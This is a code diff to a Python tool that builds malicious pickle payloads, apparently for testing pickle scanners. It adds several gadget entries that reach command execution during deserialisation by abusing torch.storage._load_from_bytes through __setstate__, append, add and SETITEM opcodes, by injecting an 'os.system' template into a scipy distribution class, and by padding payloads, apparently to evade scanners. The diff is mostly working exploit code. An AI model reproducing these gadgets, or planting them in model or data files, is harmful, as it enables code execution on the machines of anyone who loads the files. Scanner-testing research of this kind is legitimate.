@@ -10,8 +10,9 @@ from __future__ import annotations
 from collections.abc import Callable
 from typing import Any
 
-from .asm import Build, Call, Get, Global, Memo, New, Then
+from .asm import Build, Call, Get, Global, Memo, New, Raw, Then, encode
 from .pickle_opcodes import NAMED, SYSTEM
+from .pickle_torch import legacy_torch
 from .sample import Kit, Sample, gadget
 
 G, C = Global, Call
@@ -40,6 +41,16 @@ def _object(kit: Kit, *methods: str) -> Call:
 def _then_restored(change: Any, kit: Kit) -> Any:
     """Change the class, then restore an object of it: the payload's command is its state."""
     return Then(change, Build(New(_LAYER), kit.shell))
+
+
+def _given(target: Any, opcode: bytes, *values: Any) -> Raw:
+    """An opcode that changes what lies below its operands: APPEND, APPENDS, ADDITEMS, SETITEM."""
+    return Raw(encode(target, 4) + b"".join(encode(value, 4) for value in values) + opcode)
+
+
+_STORAGE = G("torch.storage._load_from_bytes")
+_RESULT = New(G("scipy.optimize._optimize.OptimizeResult"))
+_PLAIN = New(G("argparse.Namespace"))
 
 
 _HOLES: dict[str, tuple[str, tuple[str, ...], dict[str, Any], Callable[[Kit], Any]]] = {
@@ -71,5 +82,16 @@ _HOLES: dict[str, tuple[str, tuple[str, ...], dict[str, Any], Callable[[Kit], An
     "newobj-of-a-function": ("", (), {}, lambda k: C(G("copyreg.__newobj__"), C(
         G("builtins.type"), "X", (), {"__new__": _quiet(k)}))),
     "union-of-an-object": ("", (), {}, lambda k: C(G("functools.reduce"), G("_operator.or_"), (_object(k, "__or__"), 1))),
+    "state-as-method": ("torch", (), {}, lambda k: Build(Build(_PLAIN, {"__setstate__": _STORAGE}), legacy_torch(k))),
+    "slots-as-method": ("torch", (), {}, lambda k: Build(Build(New(G("types.SimpleNamespace")), (None, {"__setstate__": _STORAGE})), legacy_torch(k))),
+    "append-as-method": ("torch", (), {}, lambda k: _given(Build(_PLAIN, {"append": _STORAGE}), b"a", legacy_torch(k))),
+    "add-as-method": ("torch", (), {}, lambda k: Raw(
+        encode(Build(_PLAIN, {"add": _STORAGE}), 4) + b"(" + encode(legacy_torch(k), 4) + b"\x90")),
+    "item-as-method": ("scipy", (), {}, lambda k: Build(_given(_RESULT, b"s", "__setstate__", _STORAGE), legacy_torch(k))),
+    "padded-state-as-method": ("torch", (), {}, lambda k: Then(*[Build(_PLAIN, {"a": n}) for n in range(9)], _given(
+        Build(_PLAIN, {**{f"p{n}": n for n in range(99)}, "append": _STORAGE}), b"a", legacy_torch(k)))),
+    "class-by-slots": ("scipy", (), {}, lambda k: Build(Build(_PLAIN, (None, {
+        "__class__": G("scipy.stats._continuous_distns.norm_gen")})), {
+        "_parse_arg_template": f"import os\nos.system({k.shell!r})\n", "_ctor_param": {}})),
     "iterator-of-a-call": ("", (), {}, lambda k: C(G("builtins.list"), C(G("builtins.iter"), _quiet(k), None))),
 }  # fmt: skip
